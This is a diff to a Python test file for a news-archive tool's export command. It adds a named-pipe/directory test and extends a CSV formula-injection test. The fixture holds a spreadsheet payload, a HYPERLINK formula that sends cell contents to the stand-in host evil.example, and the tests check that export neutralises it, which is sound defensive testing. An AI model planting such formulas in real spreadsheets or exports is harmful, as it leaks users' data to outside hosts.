@@ -253,8 +253,28 @@ def test_export_refuses_to_write_into_the_index_and_takes_dash_for_stdout(index:
     assert dash.exit_code == 0 and [json.loads(x)["id"] for x in dash.stdout.splitlines()] == ["war-1", "korea-1"]
 
 
+def test_export_writes_into_a_pipe_and_refuses_a_directory_before_exporting(index: Path, tmp_path: Path) -> None:
+    import threading
+
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    got: list[bytes] = []
+    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
+    reader.start()
+    result = runner.invoke(app, ["export", "--category", "world", "--index", str(index), "-o", str(fifo)])
+    reader.join(timeout=30)
+    assert result.exit_code == 0, result.output
+    assert [json.loads(x)["id"] for x in got[0].decode("utf-8").splitlines()] == ["war-1", "korea-1"]
+    assert fifo.is_fifo()  # still the pipe, not a file put in its place
+    folder = tmp_path / "folder"
+    folder.mkdir()
+    refused = runner.invoke(app, ["export", "--index", str(index), "-o", str(folder)])
+    assert refused.exit_code == 1 and "is a directory" in refused.stderr and list(folder.iterdir()) == []
+
+
 def test_csv_export_shows_formulas_as_text_and_builds_the_same_archive(tmp_path: Path, news: list[Document]) -> None:
-    tricky = [replace(news[0], id="=1+1", title='=HYPERLINK("http://evil.example/?"&A1,"اضغط هنا")'),
+    tricky = [replace(news[0], id="=1+1", title='=HYPERLINK("http://evil.example/?"&A1,"اضغط هنا")',
+                      author="'=كاتب"),
               replace(news[1], source="+cmd", body="@SUM(A1:A9) " + news[1].body),
               replace(news[2], title="-" + news[2].title)]
     Archive.build(tricky, tmp_path / "index", encoder="none").close()
@@ -266,10 +286,12 @@ def test_csv_export_shows_formulas_as_text_and_builds_the_same_archive(tmp_path:
     assert rows[0]["title"].startswith("'=HYPERLINK(") and rows[1]["source"] == "'+cmd"
     assert rows[1]["body"].startswith("'@SUM(") and rows[2]["title"] == "'-" + news[2].title
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
+    assert rows[0]["author"] == "''=كاتب"  # a quote the user wrote is kept: it gets one of its own
     rebuilt = runner.invoke(app, ["build", str(out), "--index", str(tmp_path / "again"), "--encoder", "none"])
     assert rebuilt.exit_code == 0, rebuilt.output
     with Archive(tmp_path / "again") as again:
-        assert [(d.id, d.title, d.source, d.body) for d in again] == [(d.id, d.title, d.source, d.body) for d in tricky]
+        assert [(d.id, d.title, d.source, d.body, d.author) for d in again] == [
+            (d.id, d.title, d.source, d.body, d.author) for d in tricky]
 
 
 def test_export_streams(index: Path) -> None:
